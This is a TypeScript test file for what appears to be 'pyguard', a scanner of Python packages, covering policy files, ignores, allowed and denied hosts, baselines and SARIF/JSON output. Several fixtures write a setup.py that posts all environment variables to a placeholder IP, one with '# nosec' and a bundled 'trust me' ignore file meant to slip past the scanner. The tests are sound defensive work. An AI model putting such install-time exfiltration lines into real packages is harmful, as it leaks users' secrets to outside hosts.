// The policy stage: files found up the tree, errors naming file, key and line, ignores, per-package expectations,
// hosts and baselines marking findings, and JSON and SARIF carrying the marks (validated against their schemas).
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { allRules } from '../../src/analysis/rules/rule-catalog.ts';
import { applyPolicy } from '../../src/policy/apply.ts';
import { EMPTY_POLICY, findPolicyFile, readPolicy } from '../../src/policy/load.ts';
import { renderJson } from '../../src/report/json.ts';
import { renderSarif } from '../../src/report/sarif.ts';
import { UserError } from '../../src/util/errors.ts';
import { runCli, scanJson } from '../analysis/run-cli.ts';
import { sampleResult } from '../report/fixtures/sample-result.ts';
import { validateResult, validateSarif } from '../report/validate.ts';

const root = mkdtempSync(join(tmpdir(), 'pyguard-policy-'));
after(() => rmSync(root, { recursive: true, force: true }));
let n = 0;
const TODAY = '2026-06-01';

function folder(files: Record<string, string>): string {
  const dir = join(root, `case${n++}`);
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(join(dir, path, '..'), { recursive: true });
    writeFileSync(join(dir, path), text);
  }
  return dir;
}

function policyError(text: string, name = 'pyguard.toml'): string {
  const dir = folder({ [name]: text });
  try {
    readPolicy(join(dir, name), dir, TODAY);
  } catch (error) {
    assert.ok(error instanceof UserError);
    return error.message;
  }
  assert.fail('the policy was accepted');
}

test('the nearest pyguard.toml or pyproject.toml with [tool.pyguard] up the tree is the policy', () => {
  const dir = folder({
    'pyguard.toml': '',
    'a/pyproject.toml': '[project]\nname = "x"\n',
    'a/b/c/.keep': '',
    'd/pyproject.toml': '[tool.pyguard]\nfail-on = "low"\n',
  });
  assert.equal(
    findPolicyFile(join(dir, 'a/b/c')),
    join(dir, 'pyguard.toml'),
    'a pyproject.toml without [tool.pyguard] is passed over',
  );
  assert.equal(findPolicyFile(join(dir, 'd')), join(dir, 'd/pyproject.toml'));
  assert.equal(readPolicy(join(dir, 'd/pyproject.toml'), dir, TODAY).failOn, 'low');
});

test('an unknown key, a wrong type and bad TOML are reported with the file, the key and the line', () => {
  assert.equal(
    policyError('fail-on = "high"\n\n[packages.requests]\ncapability = ["network"]\n'),
    'pyguard.toml:4: packages.requests.capability: unknown key',
  );
  assert.match(policyError('warn-on = "medium"\nfail-on = "severe"\n'), /^pyguard\.toml:2: fail-on: Invalid option/);
  assert.match(
    policyError(
      '[[ignore]]\nrule = "x"\npackage = "p"\nreason = "ok"\n\n[[ignore]]\nrule = "y"\npackage = "q"\nreason = 3\n',
    ),
    /^pyguard\.toml:9: ignore\[1\]\.reason: /,
  );
  assert.match(
    policyError('[project]\n\n[tool.pyguard]\ndenied-hosts = "evil.example"\n', 'pyproject.toml'),
    /^pyproject\.toml:4: tool\.pyguard\.denied-hosts: /,
  );
  assert.match(policyError('fail-on = \n'), /^pyguard\.toml:1: not valid TOML/);
  assert.match(
    policyError('[[ignore]]\nrule = "x"\npackage = "p"\n'),
    /^pyguard\.toml:1: ignore\[0\]\.reason: /,
    'an ignore needs a reason',
  );
});

test('an expired ignore fails with its line; one expiring later is used', () => {
  assert.match(
    policyError('\n[[ignore]]\nrule = "r"\npackage = "p"\nreason = "known"\nexpires = 2026-05-31\n'),
    /^pyguard\.toml:6: ignore\[0\]\.expires: the ignore of r in p expired on 2026-05-31 \(known\)/,
  );
  const dir = folder({
    'pyguard.toml': '[[ignore]]\nrule = "r"\npackage = "P.Q"\nreason = "known"\nexpires = 2026-06-01\n',
  });
  const policy = readPolicy(join(dir, 'pyguard.toml'), dir, TODAY);
  assert.equal(policy.ignores[0].source, 'pyguard.toml:1');
});

test('ignores, expectations, hosts and baselines mark findings; targets are re-judged; JSON and SARIF stay valid', () => {
  const result = sampleResult();
  const shim = result.targets.find((t) => t.name === 'pkg-telemetry-shim')!;
  assert.ok(['high', 'critical'].includes(shim.risk), 'the sample has a high-risk dependency');
  const dir = folder({
    'pyguard.toml':
      '[packages.pkg-telemetry-shim]\ncapabilities = ["network", "telemetry", "obfuscation", "persistence"]\n',
  });
  const expected = applyPolicy(result, { policy: readPolicy(join(dir, 'pyguard.toml'), dir, TODAY), failOn: 'high' });
  const judgedShim = expected.targets.find((t) => t.name === 'pkg-telemetry-shim')!;
  assert.ok(expected.policy!.expected > 0);
  assert.equal(judgedShim.analysedRisk, shim.risk);
  assert.equal(judgedShim.risk, 'medium', 'what is left: an import-time side effect (no capability)');
  assert.deepEqual(validateResult(JSON.parse(renderJson(expected))), []);
  assert.deepEqual(
    result.targets.find((t) => t.name === 'pkg-telemetry-shim')!.risk,
    shim.risk,
    'the input is not changed',
  );

  const baselined = applyPolicy(result, {
    policy: EMPTY_POLICY,
    failOn: 'high',
    baseline: { result, file: 'known.json' },
  });
  assert.equal(baselined.summary.risk, 'none');
  assert.equal(baselined.policy!.decision, 'pass');
  assert.equal(baselined.policy!.baselined, result.summary.findings);
  const sarif = renderSarif(baselined, allRules()) as {
    runs: { results: { suppressions?: { kind: string }[]; baselineState?: string }[] }[];
  };
  assert.deepEqual(validateSarif(sarif), []);
  assert.ok(
    sarif.runs[0].results.every((r) => r.suppressions?.[0].kind === 'external' && r.baselineState === 'unchanged'),
  );
});

test('a denied host raises a finding; an allowed host lowers it; an unexpected capability is raised', () => {
  const result = sampleResult();
  const hosts = result.targets
    .flatMap((t) => t.files.flatMap((f) => f.findings))
    .flatMap((f) => f.destination?.host ?? []);
  assert.ok(hosts.length > 0);
  const denied = applyPolicy(result, {
    policy: { ...EMPTY_POLICY, file: 'p.toml', deniedHosts: [hosts[0]] },
    failOn: 'critical',
  });
  const raised = denied.targets
    .flatMap((t) => t.files.flatMap((f) => f.findings))
    .filter((f) => f.policy?.status === 'raised');
  assert.ok(
    raised.length > 0 && raised.every((f) => f.policy!.severity === 'high' || f.policy!.severity === 'critical'),
  );
  const allowed = applyPolicy(result, {
    policy: { ...EMPTY_POLICY, file: 'p.toml', allowedHosts: [hosts[0]] },
    failOn: 'critical',
  });
  assert.ok(allowed.policy!.expected > 0);
  const narrow = {
    ...EMPTY_POLICY,
    file: 'p.toml',
    packages: new Map([['pkg-telemetry-shim', { capabilities: new Set(['process' as const]), source: 'p.toml:1' }]]),
  };
  const unexpected = applyPolicy(result, { policy: narrow, failOn: 'critical' });
  assert.ok(unexpected.policy!.raised > 0);
});

test('suppressions come from the user only: # nosec, # noqa and a pyguard.toml inside the audited folder are not honoured', async () => {
  const dir = folder({
    'pkg/pyguard.toml': '[[ignore]]\nrule = "exfiltration"\npackage = "pkg"\nreason = "trust me"\n',
    'pkg/pyproject.toml':
      '[tool.pyguard]\nfail-on = "critical"\n[[tool.pyguard.ignore]]\nrule = "egress-network-call"\npackage = "pkg"\nreason = "trust me"\n',
    'pkg/setup.py':
      'import json, os, urllib.request  # noqa\nurllib.request.urlopen("http://192.0.2.10/c", data=json.dumps(dict(os.environ)).encode())  # nosec\n',
  });
  const inside = await scanJson('.', join(dir, 'pkg'));
  assert.equal(inside.code, 1);
  assert.equal(inside.result.policy, undefined, "the package's own policy file was not used");
  const findings = inside.result.targets[0].files.flatMap((f) => f.findings);
  assert.ok(findings.some((f) => f.rule === 'exfiltration') && findings.every((f) => !f.policy));
});

test('scan judges with the policy of the folder it runs in, and with a baseline written by baseline write', async () => {
  const exfil =
    'import json, os, urllib.request\nurllib.request.urlopen("http://192.0.2.10/c", data=json.dumps(dict(os.environ)).encode())\n';
  const dir = folder({
    'pyguard.toml':
      '[[ignore]]\nrule = "exfiltration"\npackage = "pkg"\nreason = "lab sample"\n\n[[ignore]]\nrule = "egress-network-call"\npackage = "pkg"\nreason = "lab sample"\n',
    'pkg/setup.py': exfil,
  });
  const ignored = await scanJson('pkg', dir);
  assert.equal(ignored.code, 0);
  assert.equal(ignored.result.policy!.ignored, 2);
  assert.equal(ignored.result.targets[0].analysedRisk, 'critical');
  assert.deepEqual(validateResult(ignored.result), []);

  const write = await runCli(['baseline', 'write', 'known.json', 'scan', 'pkg'], dir);
  assert.equal(write.code, 0, write.stderr);
  assert.equal((await scanJson('pkg', dir, ['--no-policy', '--baseline', 'known.json'])).code, 0);
  writeFileSync(
    join(dir, 'pkg/setup.py'),
    exfil + 'urllib.request.urlopen("http://192.0.2.11/d", data=os.environ["HOME"].encode())\n',
  );
  const changed = await scanJson('pkg', dir, ['--no-policy', '--baseline', 'known.json']);
  assert.equal(changed.code, 1);
  const counted = changed.result.targets[0].files.flatMap((f) => f.findings).filter((f) => !f.policy);
  assert.ok(counted.length > 0 && counted.every((f) => f.code.includes('192.0.2.11')));
});

test('report judges a saved result with the policy and baseline it is given', async () => {
  const dir = folder({ 'result.json': renderJson(sampleResult()) });
  const run = await runCli(['report', 'result.json', '--baseline', 'result.json', '--json'], dir);
  assert.equal(run.code, 0, run.stderr);
  const judged = JSON.parse(run.stdout);
  assert.equal(judged.policy.baselined, sampleResult().summary.findings);
  assert.equal(judged.summary.risk, 'none');
  assert.deepEqual(validateResult(judged), []);
});
